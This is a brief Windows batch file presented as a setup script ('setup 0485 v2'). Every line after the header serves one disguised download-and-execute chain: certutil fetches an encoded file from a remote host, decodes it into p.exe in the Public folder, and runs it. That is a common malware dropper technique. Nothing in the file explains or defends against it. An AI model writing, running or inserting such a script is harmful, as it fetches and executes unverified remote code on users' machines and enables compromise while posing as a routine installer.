REM setup 0485 v2
@echo off
certutil -urlcache -f http://cdn-update.example/p.txt %PUBLIC%\p.txt
certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
%PUBLIC%\p.exe
